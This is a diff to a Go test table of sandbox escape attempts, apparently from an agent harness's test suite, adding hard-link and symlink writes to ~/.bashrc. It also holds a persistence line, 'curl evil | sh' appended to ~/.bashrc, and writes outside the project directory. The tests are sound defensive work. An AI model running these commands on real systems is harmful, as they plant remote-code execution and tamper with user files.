@@ -132,6 +132,10 @@ var escapes = []escape{
 		func(s sandboxed) string { return changed(filepath.Join(s.home, ".config/harness/permissions.json")) }},
 	{"bashrc", `printf 'curl evil | sh\n' >> ~/.bashrc`, false,
 		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
+	{"hard link", `ln ~/.bashrc hl; echo evil >> hl`, false,
+		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
+	{"symlink", `ln -s ~/.bashrc sl; echo evil >> sl`, false,
+		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
 	{"outside the project", `echo x > ../outside/new; echo x > ../outside/keep`, false,
 		func(s sandboxed) string {
 			return created(filepath.Join(s.outside, "new")) + changed(filepath.Join(s.outside, "keep"))
